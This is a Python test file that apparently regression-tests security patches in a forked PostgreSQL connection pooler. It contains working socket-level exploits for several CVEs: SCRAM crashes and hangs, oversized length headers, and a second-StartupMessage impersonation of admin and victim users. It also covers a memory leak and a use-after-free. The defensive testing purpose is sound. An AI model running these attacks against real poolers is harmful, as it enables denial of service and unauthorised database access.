"""One attack per security fix in patches/security/, spoken from a raw
socket against the real binaries and a real PostgreSQL.  Each attack first
runs against the unpatched build of the same sources and must do its harm
there (crash, hang, impersonation, growth); a test whose attack does not
reproduce fails.  Then the same attack runs against the fork, which must
refuse it and still serve a normal login at once."""

import signal
import socket
import struct
import subprocess
import threading
import time

import pytest

from conftest import MALLORY_PASSWORD, binary
from wire import (FakeServer, ScramClient, auth_code, cstr, connect, error_text,
                  login_ok_messages, message, read_message, read_until, sasl_data, startup_packet)

AUTH_OK, AUTH_SASL, AUTH_SASL_CONTINUE, AUTH_SASL_FINAL = 0, 10, 11, 12


def still_serving(p):
    assert p.alive(), f"{p.build} died:\n{p.output()}"
    err = p.login()
    assert err is None, f"{p.build} refused a normal login after the attack: {err}\n{p.output()}"


def stuck(p):
    """The pooler loops forever: CPU-bound while a normal login cannot get
    through (a few bounded looks, as the attack may still be arriving)."""
    return any(p.spinning() for _ in range(3))


def assert_unpatched_hangs(pooler, attack, settings=""):
    """Run attack(port) -> socket against the unpatched build: it must end
    up stuck in a loop; the socket is closed and the build killed."""
    plain = pooler("unpatched").configure(settings).start()
    s = attack(plain.port)
    assert stuck(plain), f"unpatched build kept serving:\n{plain.output()}"
    s.close()
    plain.stop(signal.SIGKILL)


def drain(sock, limit=64 << 20):
    """Read what the pooler sends until it closes (bounded)."""
    got = 0
    try:
        while got < limit:
            chunk = sock.recv(1 << 20)
            if not chunk:
                return True
            got += len(chunk)
    except (socket.timeout, ConnectionResetError):
        return False
    return False


# --- CVE-2026-19888: SCRAM client-final-message without a nonce ------------

def send_final_without_nonce(port, user):
    s = connect(port)
    s.sendall(startup_packet({"user": user, "database": "app"}))
    assert auth_code(read_until(s, {b"R", b"E"})[-1]) == AUTH_SASL
    client = ScramClient("any password")
    s.sendall(client.initial_response())
    m = read_until(s, {b"R", b"E"})
    assert auth_code(m[-1]) == AUTH_SASL_CONTINUE, m
    s.sendall(client.final_response(sasl_data(m[-1]), with_nonce=False))
    reply = read_until(s, {b"E", b"R"})
    s.close()
    return reply


def test_cve_2026_19888_scram_final_without_nonce(pooler):
    plain = pooler("unpatched").configure().start()
    send_final_without_nonce(plain.port, "nosuchuser")
    rc = plain.wait_exit()
    assert rc == -signal.SIGSEGV, f"unpatched build did not crash (rc={rc}):\n{plain.output()}"

    fork = pooler("fork").configure().start()
    for user in ("nosuchuser", "app"):
        reply = send_final_without_nonce(fork.port, user)
        assert error_text(reply) == "SASL authentication failed", reply
    still_serving(fork)


# --- CVE-2026-6668: PktBuf growth overflow, a SCRAM nonce over 1 GiB --------
# (a startup packet carries at most 64 KiB, but a login message may be as
# large as max_packet_size, by default 2 GiB - 1; the nonce comes back in
# the server-first-message, which is built in a PktBuf)

def send_huge_scram_nonce(port):
    s = connect(port, timeout=120)
    s.sendall(startup_packet({"user": "app", "database": "app"}))
    assert auth_code(read_until(s, {b"R", b"E"})[-1]) == AUTH_SASL
    data = b"n,,n=,r=" + b"a" * ((1 << 30) + 1024)
    # 1.24.1 reads a login message too large for pkt_buf, which it buffers
    # whole, as if it had a startup packet's 8-byte header: 3 bytes past
    # the start of its body.  Pad for that.
    head = b"pad" + cstr("SCRAM-SHA-256") + struct.pack("!I", len(data))
    s.sendall(b"p" + struct.pack("!I", 4 + len(head) + len(data)) + head)
    s.sendall(data)
    return s


def test_cve_2026_6668_pktbuf_growth_overflow(pooler):
    assert_unpatched_hangs(pooler, send_huge_scram_nonce)

    fork = pooler("fork").configure().start()
    s = send_huge_scram_nonce(fork.port)
    assert drain(s), "the fork did not close the attacking connection"
    s.close()
    still_serving(fork)


# --- CVE-2026-6669: a server asks for 2000000000 SCRAM iterations ----------

def test_cve_2026_6669_server_scram_iterations(pooler):
    asked = threading.Event()

    def evil_server(conn, params):
        conn.sendall(message(b"R", struct.pack("!I", AUTH_SASL) + cstr("SCRAM-SHA-256") + b"\0"))
        m = read_message(conn)
        first = m[1].split(b"\0", 1)[1][4:].decode()
        nonce = dict(a.split("=", 1) for a in first.split(",")[2:])["r"]
        conn.sendall(message(b"R", struct.pack("!I", AUTH_SASL_CONTINUE)
                             + f"r={nonce}server,s=c2FsdHNhbHRzYWx0,i=2000000000".encode()))
        asked.set()
        while conn.recv(4096):
            pass

    evil = FakeServer(evil_server)
    try:
        db = f"evil = host=127.0.0.1 port={evil.port} dbname=evil user=app password=secret\n"
        for build in ("unpatched", "fork"):
            asked.clear()
            p = pooler(build).configure(databases=db, auth_type="trust").start()
            s = connect(p.port)
            s.sendall(startup_packet({"user": "app", "database": "evil"}))
            assert asked.wait(30), f"{build} never logged in to the evil server:\n{p.output()}"
            if build == "unpatched":
                assert stuck(p), f"unpatched build kept serving:\n{p.output()}"
                p.stop(signal.SIGKILL)
            else:
                still_serving(p)
                assert "SCRAM iteration count 2000000000 from server is above the limit of 1000000" in p.output()
            s.close()
    finally:
        evil.close()


# --- CVE-2026-107348: MBuf growth overflow, a packet declaring 2^31+1 bytes -

def declare_huge_login_message(port):
    """Start a login and send only the header of a password message that
    declares 2^31 + 1 bytes (a startup packet cannot: its length is 16-bit)."""
    s = connect(port)
    s.sendall(startup_packet({"user": "app", "database": "app"}))
    assert auth_code(read_until(s, {b"R", b"E"})[-1]) == AUTH_SASL
    s.sendall(b"p" + struct.pack("!I", 0x80000000))
    return s


def test_cve_2026_107348_mbuf_growth_overflow(pooler):
    settings = "max_packet_size = 2147483649\n"

    assert_unpatched_hangs(pooler, declare_huge_login_message, settings)

    fork = pooler("fork").configure(settings).start()
    s = declare_huge_login_message(fork.port)
    # the fork waits for the rest of a packet the operator allowed, and
    # serves everyone else meanwhile
    still_serving(fork)
    s.close()
    still_serving(fork)


# --- CVE-2026-107349: options=-c= with ignore_startup_parameters set --------

def test_cve_2026_107349_empty_option_name(pooler):
    settings = "ignore_startup_parameters = extra_float_digits\n"

    def send_empty_option_name(port):
        s = connect(port)
        s.sendall(startup_packet({"user": "app", "database": "app", "options": "-c="}))
        return s

    assert_unpatched_hangs(pooler, send_empty_option_name, settings)

    fork = pooler("fork").configure(settings).start()
    s = send_empty_option_name(fork.port)
    reply = read_until(s, {b"E", b"R"})
    s.close()
    assert error_text(reply) == "unsupported startup parameter in options: ", reply
    still_serving(fork)


# --- CVE-2026-107350: a second StartupMessage during SCRAM ------------------

def impersonate(port, user, dbname, query):
    """Log in as mallory to a database that does not exist, and switch to
    user/dbname with a second StartupMessage in the middle of SCRAM.
    Returns (messages of the login, rows of query or None)."""
    s = connect(port)
    s.sendall(startup_packet({"user": "mallory", "database": "nosuchdb"}))
    assert auth_code(read_until(s, {b"R", b"E"})[-1]) == AUTH_SASL
    client = ScramClient(MALLORY_PASSWORD)
    s.sendall(client.initial_response())
    m = read_until(s, {b"R", b"E"})
    assert auth_code(m[-1]) == AUTH_SASL_CONTINUE, m
    s.sendall(startup_packet({"user": user, "database": dbname}))
    s.sendall(client.final_response(sasl_data(m[-1])))
    login = read_until(s, {b"Z", b"E"})
    rows = None
    if login and login[-1][0] == b"Z":
        s.sendall(message(b"Q", cstr(query)))
        answer = read_until(s, {b"Z"})
        assert error_text(answer) is None, answer
        rows = [body for kind, body in answer if kind == b"D"]
    s.close()
    return login, rows


@pytest.mark.parametrize("user, dbname, query, expect", [
    ("admin", "pgbouncer", "SHOW USERS", b"mallory"),       # the admin console
    ("victim", "victimdb", "select current_user", b"victim"),  # PostgreSQL as another user
])
def test_cve_2026_107350_second_startup_message(pooler, user, dbname, query, expect):
    plain = pooler("unpatched").configure().start()
    login, rows = impersonate(plain.port, user, dbname, query)
    assert rows is not None, f"unpatched build refused the impersonation: {error_text(login)}"
    assert any(AUTH_OK == auth_code(m) for m in login)
    assert any(expect in r for r in rows), rows

    fork = pooler("fork").configure().start()
    login, rows = impersonate(fork.port, user, dbname, query)
    assert rows is None
    assert not any(AUTH_OK == auth_code(m) for m in login), login
    assert error_text(login) == "client re-sent startup pkt", login
    still_serving(fork)


# --- the _pq_ leak: 300 startups with a 60 KB protocol extension name -------

def pq_startups(port, n):
    for _ in range(n):
        s = connect(port)
        s.sendall(startup_packet({"user": "app", "database": "app", "_pq_." + "x" * 60000: "1"}))
        reply = read_until(s, {b"R", b"E"})
        assert reply and reply[0][0] == b"v", reply  # NegotiateProtocolVersion
        s.close()


def test_protocol_extension_leak(pooler):
    growth = {}
    for build in ("unpatched", "fork"):
        p = pooler(build).configure().start()
        pq_startups(p.port, 30)          # let the allocator settle
        before = p.rss_kb()
        pq_startups(p.port, 300)
        growth[build] = p.rss_kb() - before
        still_serving(p)
    print(f"RSS growth over 300 startups with a 60 KB _pq_ name: {growth} kB")
    # two buffers of 64 KiB each per startup: about 38 MB for 300
    assert growth["unpatched"] > 25_000, growth
    assert growth["fork"] < 5_000, growth


# --- use-after-free: a replication client gone while its server logs in ----

def test_replication_client_gone_during_server_login(pooler):
    release = threading.Event()
    replication_started = threading.Event()

    def server(conn, params):
        if "replication" in params:
            replication_started.set()
            release.wait(60)
        conn.sendall(login_ok_messages())
        while conn.recv(4096):
            pass

    fake = FakeServer(server)
    try:
        db = f"repl = host=127.0.0.1 port={fake.port} dbname=repl\n"
        for build in ("unpatched-asan", "fork-asan"):
            release.clear()
            replication_started.clear()
            p = pooler(build).configure("pool_mode = session\n", databases=db, auth_type="trust").start()
            # a first login fills the pool's welcome message
            first = connect(p.port)
            first.sendall(startup_packet({"user": "app", "database": "repl"}))
            assert read_until(first, {b"Z", b"E"})[-1][0] == b"Z"
            # the replication client logs in, asks, and goes away while its
            # dedicated server connection is still logging in
            r = connect(p.port)
            r.sendall(startup_packet({"user": "app", "database": "repl", "replication": "database"}))
            assert read_until(r, {b"Z", b"E"})[-1][0] == b"Z"
            r.sendall(message(b"Q", cstr("IDENTIFY_SYSTEM")))
            assert replication_started.wait(30), p.output()
            r.close()
            release.set()
            if build == "unpatched-asan":
                rc = p.wait_exit(30)
                out = p.output()
                assert rc is not None and "heap-use-after-free" in out, f"no use-after-free (rc={rc}):\n{out}"
            else:
                # the fork closes the server and goes on
                deadline = time.monotonic() + 30
                while "replication client was closed" not in p.output() and \
                        "client disconnect" not in p.output() and time.monotonic() < deadline:
                    time.sleep(0.05)
                still_serving(p)
                assert "AddressSanitizer" not in p.output()
            first.close()
    finally:
        fake.close()


def test_version_names_security_fixes():
    out = subprocess.run([str(binary("fork")), "--version"], capture_output=True, text=True).stdout
    assert "security fixes through 1.26.1" in out.splitlines()[0], out
